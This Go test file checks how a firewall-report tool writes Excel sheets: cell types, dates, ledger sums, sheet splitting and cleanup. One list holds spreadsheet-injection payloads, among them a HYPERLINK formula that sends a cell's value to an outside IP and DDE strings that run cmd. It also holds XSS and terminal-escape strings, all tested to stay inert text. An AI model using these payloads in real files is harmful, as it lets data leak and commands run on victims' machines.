package xlsx

import (
	"bytes"
	"errors"
	"io"
	"os"
	"strings"
	"testing"

	"fwreport/reader/evidence"
	"fwreport/report"
	"fwreport/report/reporttest"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

func render(t *testing.T, r *report.Report, opt Options) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := Render(&b, r, opt); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func open(t *testing.T, b []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// want is what a cell must be: its type, the value that is stored, and what is
// shown ("*" where excelize shows something else than Excel and LibreOffice do:
// no fractions of a second).
type want struct {
	cell          string
	typ           excelize.CellType
	stored, shown string
}

const (
	number = excelize.CellTypeUnset // no t attribute: a number
	text   = excelize.CellTypeInlineString
	none   = excelize.CellTypeUnset // no cell at all
)

func check(t *testing.T, f *excelize.File, sheet string, wants []want) {
	t.Helper()
	for _, w := range wants {
		typ, err := f.GetCellType(sheet, w.cell)
		if err != nil {
			t.Fatal(err)
		}
		stored, _ := f.GetCellValue(sheet, w.cell, excelize.Options{RawCellValue: true})
		shown, _ := f.GetCellValue(sheet, w.cell)
		if formula, _ := f.GetCellFormula(sheet, w.cell); formula != "" {
			t.Errorf("%s!%s has the formula %q", sheet, w.cell, formula)
		}
		if typ != w.typ || stored != w.stored || shown != w.shown && w.shown != "*" {
			t.Errorf("%s!%s: type %v, stored %q, shown %q; want %v, %q, %q", sheet, w.cell, typ, stored, shown, w.typ, w.stored, w.shown)
		}
	}
}

func TestSheets(t *testing.T) {
	f := open(t, render(t, reporttest.Sample(), Options{}))
	want := []string{"Summary", "Events over time", "Denied", "Nothing", "Rules a b the prefixes of all t", "Inputs"}
	if d := cmp.Diff(want, f.GetSheetList()); d != "" {
		t.Errorf("-want +got: %s", d)
	}
	for _, sheet := range want[1:] {
		panes, err := f.GetPanes(sheet)
		if err != nil || !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: the header is not frozen: %+v, %v", sheet, panes, err)
		}
	}
	filters := map[string]string{}
	for _, d := range f.GetDefinedName() {
		if d.Name == "_xlnm._FilterDatabase" {
			filters[d.Scope] = d.RefersTo
		}
	}
	wantFilters := map[string]string{"Inputs": "'Inputs'!$A$1:$U$4", "Events over time": "'Events over time'!$A$1:$D$5",
		"Denied": "'Denied'!$A$1:$L$3", "Nothing": "'Nothing'!$A$1:$C$1", want[4]: "'" + want[4] + "'!$A$1:$C$27"}
	if d := cmp.Diff(wantFilters, filters); d != "" {
		t.Errorf("filters: -want +got: %s", d)
	}
}

// The serial of a date is 25569 (1970-01-01) and the days since:
// 2026-03-01T00:00:02Z is 20513 days and 2 s; 2026-03-07T23:59:58.25Z 20520 days less 1.75 s.
func TestDenied(t *testing.T) {
	f := open(t, render(t, reporttest.Sample(), Options{}))
	check(t, f, "Denied", []want{
		{"A1", text, "Count", "Count"}, {"B1", text, "Source", "Source"}, {"I1", text, "First (UTC)", "First (UTC)"}, {"K1", text, "Lasted", "Lasted"},
		{"A2", number, "11000", "11,000"},
		{"B2", text, "203.0.113.7", "203.0.113.7"},
		{"C2", number, "6000", "6000"},
		{"D2", number, "22", "22"},
		{"E2", text, "TCP", "TCP"},
		{"F2", number, "440000", "440,000"},
		{"G2", number, "0.9166666666666666", "91.7%"},
		{"H2", text, "EXAMPLE-NET, Example Ltd.", "EXAMPLE-NET, Example Ltd."},
		{"I2", number, "46082.00002314815", "2026-03-01 00:00:02"},
		{"J2", number, "46088.99997974537", "*"},
		{"K2", number, "0.0010416666666666667", "0:01:30"},
		{"L2", text, "logs/kern.log.2.gz:1", "logs/kern.log.2.gz:1"},
		{"A3", number, "1000", "1,000"},
		{"B3", text, "2001:db8:1234:5678:9abc:def0:1234:5678", "2001:db8:1234:5678:9abc:def0:1234:5678"},
		{"C3", none, "", ""}, // null, not 0
		{"D3", number, "0", "0"},
		{"E3", text, "", ""}, // empty, not null
		{"H3", none, "", ""}, {"I3", none, "", ""}, {"J3", none, "", ""}, {"K3", none, "", ""},
		{"L3", text, "logs/=cap.pcap#3", "logs/=cap.pcap#3"},
	})
	if rows, err := f.GetRows("Nothing"); err != nil || len(rows) != 1 || rows[0][2] != "Source port" {
		t.Errorf("an empty table is %v, %v; want its header", rows, err)
	}
}

func attacksAsShown() []string {
	return []string{
		`=HYPERLINK("http://198.51.100.9/?"&A1,"click")`,
		`+cmd|' /C calc'!A0`,
		`@SUM(1+9)*cmd|' /C calc'!A0`,
		`-1+1`,
		`\x09=1+1`, `\x0d=1+1`, `\x0a=1+1`, `\x00=1+1`,
		"\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x",
		"  =1+1",
		"x;=1+1",
		`\x1b[2J\x1b]0;owned\x07gone`,
		`\u009b31mred`,
		`<script>alert(1)</script>`,
		`"><img src=x onerror=alert(1)>`,
		`caf\xe9 \xff\xfe`,
		`\u202efdp.exe`,
		`zero\u200bwidth\u2028line`,
		`_x0041_ and _x000D_`,
		`a "quoted", text\x0aof two lines`,
		`\x1b is four characters here`,
		"🔥 防火墙 e\u0301",
		reporttest.Long()[:32767-6] + "…[cut]",
	}
}

func TestAttacks(t *testing.T) {
	f := open(t, render(t, reporttest.Sample(), Options{}))
	const sheet = "Rules a b the prefixes of all t"
	for i, s := range attacksAsShown() {
		cell := cellName(2, i+2)
		check(t, f, sheet, []want{{cell, text, s, s}})
		style, err := f.GetCellStyle(sheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		if s, err := f.GetStyle(style); err != nil || s.NumFmt != asText {
			t.Errorf("%s: number format %d, %v: editing the cell would make a formula of it", cell, s.NumFmt, err)
		}
	}
}

func TestSummary(t *testing.T) {
	f := open(t, render(t, reporttest.Sample(), Options{}))
	rows, err := f.GetRows("Summary")
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"Firewall report"},
		{},
		{"Made by", "fwreport 1.2.3"},
		{"Command", "--since 2026-03-01 --format html logs/"},
		{"Window", "from 2026-03-01 00:00:00 UTC"},
		{"First event", "2026-03-01 00:00:02"},
		{"Last event", "*"},
		{"Zone of all dates", "UTC"},
		{"Inputs", "3"},
		{"Records read", "12,360"},
		{"Events counted, repeats included", "12,007"},
		{"Ledger", "reconciles: every record read is accounted for, see the sheet of the inputs"},
		{},
		{"Findings"},
		{"observed", "831 sources were denied. [logs/kern.log.2.gz:1]"},
		{"possible", "203.0.113.7 may have scanned. [a:1, b:2]"},
		{"inferred", `A prefix holds \x1b[31m <b>escapes</b>.`},
		{},
		{"Notes"},
		{"", "The evidence is incomplete: 1 of 3 inputs was cut."},
		{"", "2 verdicts are undetermined."},
		{},
		{"Notes on sections"},
		{"Denied packets", "Ports are those of the outer packet."},
		{},
		{"Sheets", "What they hold", "Rows here", "Rows in all", "Events"},
		{"Events over time", "Events over time: All events by action.", "4", "4"},
		{"Denied", "Denied: One row a group.", "2", "2", "12,000"},
		{"Nothing", "Nothing", "0", "0", "0"},
		{"Rules a b the prefixes of all t", "Rules [a/b]: the prefixes of all the rules?: Whoever is logged writes part of the log.", "26", "26", "2,275"},
		{"Inputs", "Inputs: read = events + other + malformed + duplicates + outside + filtered; repeats are events without a record of their own, on top", "3", "3", "12,007"},
	}
	rows[6][1] = "*"      // see want
	for i := range rows { // empty cells of styled headings
		for len(rows[i]) > 0 && rows[i][len(rows[i])-1] == "" {
			rows[i] = rows[i][:len(rows[i])-1]
		}
		if rows[i] == nil {
			rows[i] = []string{}
		}
	}
	if d := cmp.Diff(want, rows); d != "" {
		t.Errorf("-want +got:\n%s", d)
	}
	if ok, target, err := f.GetCellHyperLink("Summary", "A28"); err != nil || !ok || target != "'Denied'!A1" {
		t.Errorf("A28 links to %q, %v, %v", target, ok, err)
	}
}

func TestLedger(t *testing.T) {
	f := open(t, render(t, reporttest.Sample(), Options{Limit: 1})) // the limit is one of tables, not of inputs
	check(t, f, "Inputs", []want{
		{"A2", text, "logs/kern.log.2.gz", "logs/kern.log.2.gz"}, {"C2", number, "12000", "12,000"}, {"P2", text, strings.Repeat("0123456789abcdef", 4), strings.Repeat("0123456789abcdef", 4)},
		{"A3", text, "logs/=cap.pcap", "logs/=cap.pcap"}, {"K3", text, "incomplete", "incomplete"}, {"L3", text, "cut inside packet 361", "cut inside packet 361"}, {"O3", none, "", ""},
		{"A4", text, "-", "-"}, {"N4", none, "", ""},
		{"A5", none, "", ""},
		{"A6", text, "Sum of the inputs", "Sum of the inputs"},
		{"A7", text, "Totals of the report", "Totals of the report"}, {"C7", number, "12360", "12,360"}, {"D7", number, "12000", "12,000"}, {"J7", number, "7", "7"},
		{"A8", text, "Read and not accounted for", "Read and not accounted for"},
	})
	for _, tt := range []struct{ cell, formula, value string }{
		{"C6", "SUM(C2:C4)", "12360"}, {"D6", "SUM(D2:D4)", "12000"}, {"E6", "SUM(E2:E4)", "300"}, {"F6", "SUM(F2:F4)", "5"}, {"G6", "SUM(G2:G4)", "20"},
		{"H6", "SUM(H2:H4)", "25"}, {"I6", "SUM(I2:I4)", "10"}, {"J6", "SUM(J2:J4)", "7"}, {"C8", "C6-SUM(D6:I6)", "0"},
	} {
		formula, _ := f.GetCellFormula("Inputs", tt.cell)
		stored, _ := f.GetCellValue("Inputs", tt.cell, excelize.Options{RawCellValue: true})
		calculated, err := f.CalcCellValue("Inputs", tt.cell, excelize.Options{RawCellValue: true})
		if formula != tt.formula || stored != tt.value || calculated != tt.value || err != nil {
			t.Errorf("%s: %s stored as %s, calculated %s, %v; want %s = %s", tt.cell, formula, stored, calculated, err, tt.formula, tt.value)
		}
	}
}

func TestLedgerThatDoesNotReconcile(t *testing.T) {
	r := reporttest.Sample()
	r.Evidence.Inputs[0].Records.Read += 3
	r.Evidence.Totals.Read += 3
	f := open(t, render(t, r, Options{}))
	if v, _ := f.GetCellValue("Inputs", "C8"); v != "3" {
		t.Errorf("3 records are not accounted for, the sheet says %s", v)
	}
	if v, _ := f.GetCellValue("Summary", "B12"); v != "ledger does not reconcile: 12363 records read, 12360 accounted for" {
		t.Errorf("the summary says %q", v)
	}
}

func TestNoInputs(t *testing.T) {
	f := open(t, render(t, reporttest.Big(0), Options{}))
	if v, _ := f.GetCellValue("Inputs", "C3"); v != "0" {
		t.Errorf("the sum of no inputs is %q", v)
	}
	if v, _ := f.GetCellFormula("Inputs", "C3"); v != "" {
		t.Errorf("the sum of no inputs is the formula %q", v)
	}
}

func TestSameBytes(t *testing.T) {
	first := render(t, reporttest.Sample(), Options{})
	for range 5 { // the order of Go's maps differs from run to run
		if again := render(t, reporttest.Sample(), Options{}); !bytes.Equal(first, again) {
			t.Fatal("the same report gives other bytes")
		}
	}
}

func TestSplit(t *testing.T) {
	for _, tt := range []struct {
		rows, limit int
		names       []string
		last        int // rows of the last sheet, header included
	}{
		{9, 0, []string{"Big"}, 10},
		{10, 0, []string{"Big", "Big (2)"}, 2},
		{18, 0, []string{"Big", "Big (2)"}, 10},
		{20, 0, []string{"Big", "Big (2)", "Big (3)"}, 3},
		{20, 5, []string{"Big"}, 6},
		{1000, 600, nil, 7}, // 66 full sheets of 9 and one of 6, sampleRows passed
	} {
		f := open(t, render(t, reporttest.Big(tt.rows), Options{Limit: tt.limit, maxRows: 10}))
		sheets := f.GetSheetList()
		sheets = sheets[1 : len(sheets)-1] // between Summary and Inputs
		if tt.names != nil && !cmp.Equal(sheets, tt.names) {
			t.Errorf("%d rows: sheets %v, want %v", tt.rows, sheets, tt.names)
		}
		left := uint64(tt.rows)
		for i, sheet := range sheets {
			rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
			if err != nil || rows[0][0] != "Count" {
				t.Fatalf("%s begins with %v, %v", sheet, rows, err)
			}
			if i == len(sheets)-1 && len(rows) != tt.last {
				t.Errorf("%d rows: the last sheet has %d, want %d", tt.rows, len(rows), tt.last)
			}
			for _, row := range rows[1:] {
				if row[0] != report.CountOf(left).String() {
					t.Fatalf("%s: row %v, want %d", sheet, row, left)
				}
				left--
			}
		}
		if shown := tt.rows - int(left); shown != min(tt.rows, max(tt.limit, tt.rows*boolInt(tt.limit == 0))) {
			t.Errorf("%d rows, limit %d: %d shown", tt.rows, tt.limit, shown)
		}
	}
}

func boolInt(b bool) int {
	if b {
		return 1
	}
	return 0
}

// The tables on the evidence stand behind the inputs; one without rows has no
// sheet, but a line in the index. Excel has no negative times: they are text, on
// the right as the others are.
func TestEvidence(t *testing.T) {
	r := reporttest.Sample()
	r.Sections = append([]report.Section{reporttest.Evidence()}, r.Sections...) // wherever it stands in the report
	f := open(t, render(t, r, Options{}))
	sheets := []string{"Summary", "Events over time", "Denied", "Nothing", "Rules a b the prefixes of all t", "Inputs", "Clock", "Overlaps", "Notices"}
	if d := cmp.Diff(sheets, f.GetSheetList()); d != "" {
		t.Errorf("-want +got: %s", d)
	}
	rows, err := f.GetRows("Summary")
	if err != nil {
		t.Fatal(err)
	}
	index := [][]string{{"Clock", "Clock: Where stamps and uptimes part.", "3", "3"}, {"(no sheet: no rows)", "Gaps: Where nothing was logged.", "0", "0"},
		{"Overlaps", "Overlaps", "1", "1"}, {"Notices", "Notices", "2", "2"}}
	if d := cmp.Diff(index, rows[len(rows)-4:]); d != "" {
		t.Errorf("index: -want +got: %s", d)
	}
	check(t, f, "Clock", []want{
		{"D2", text, "-1:23:00", "-1:23:00"}, // 1 h 23 min back
		{"D3", number, "49.01046296296296", "1176:15:04"},
		{"D4", text, "-0:00:12.500", "-0:00:12.500"},
	})
	if n, _ := f.GetColWidth("Clock", "D"); n < 13 { // 10 or 12 characters and the margin
		t.Errorf("the column of steps is %v wide", n)
	}
	style, _ := f.GetCellStyle("Clock", "D2")
	if s, err := f.GetStyle(style); err != nil || s.Alignment == nil || s.Alignment.Horizontal != "right" {
		t.Errorf("a negative length is not on the right: %+v, %v", s, err)
	}
}

// TestExcelsLimit writes one row more than a sheet holds.
func TestExcelsLimit(t *testing.T) {
	if testing.Short() {
		t.Skip("a million rows: left out with -short")
	}
	b := render(t, reporttest.Big(1_048_576), Options{TempDir: t.TempDir()})
	f := open(t, b)
	if d := cmp.Diff([]string{"Summary", "Big", "Big (2)", "Inputs"}, f.GetSheetList()); d != "" {
		t.Errorf("-want +got: %s", d)
	}
	rows, err := f.GetRows("Big (2)")
	if err != nil || len(rows) != 2 || rows[0][0] != "Count" || rows[1][0] != "1" {
		t.Errorf("the second sheet holds %v, %v", rows, err)
	}
	if rows, _ := f.GetRows("Summary"); rows[len(rows)-2][0] != "Big (2)" || rows[len(rows)-3][2] != "1,048,576" {
		t.Errorf("the index says %v", rows[len(rows)-3:])
	}
}

func TestTempFilesGo(t *testing.T) {
	dir := t.TempDir()
	r := reporttest.Big(400_000)
	render(t, r, Options{TempDir: dir})
	r.Sections[0].Tables[0].Rows = func(yield func([]report.Value) bool) {
		reporttest.Rows(400_000)(yield)
		yield(nil) // and here the table is broken
	}
	if err := Render(io.Discard, r, Options{TempDir: dir}); err == nil || !strings.Contains(err.Error(), "table big: row 400001: 0 cells for 3 columns") {
		t.Errorf("error %v", err)
	}
	if left, _ := os.ReadDir(dir); len(left) > 0 {
		t.Errorf("temporary files are left: %v", left)
	}
}

type full struct{ room int }

var errFull = errors.New("no space left")

func (f *full) Write(b []byte) (int, error) {
	if f.room -= len(b); f.room < 0 {
		return 0, errFull
	}
	return len(b), nil
}

func TestWriteError(t *testing.T) {
	for _, room := range []int{0, 5000} {
		if err := Render(&full{room}, reporttest.Sample(), Options{}); !errors.Is(err, errFull) {
			t.Errorf("room %d: error %v", room, err)
		}
	}
}

func TestPackKeepsParts(t *testing.T) {
	if err := pack(io.Discard, []byte("no archive")); err == nil {
		t.Error("what is no archive is packed")
	}
}

func TestTotalsOfReportStand(t *testing.T) {
	r := reporttest.Sample()
	r.Evidence.Totals = evidence.Ledger{Read: 1, Events: 1}
	f := open(t, render(t, r, Options{}))
	if v, _ := f.GetCellValue("Inputs", "C7"); v != "1" {
		t.Errorf("the report's own total is shown as %q", v)
	}
}

func BenchmarkRows(b *testing.B) {
	r := reporttest.Big(100_000)
	b.ReportAllocs()
	for b.Loop() {
		if err := Render(io.Discard, r, Options{TempDir: b.TempDir()}); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.N)*100_000/b.Elapsed().Seconds(), "rows/s")
}
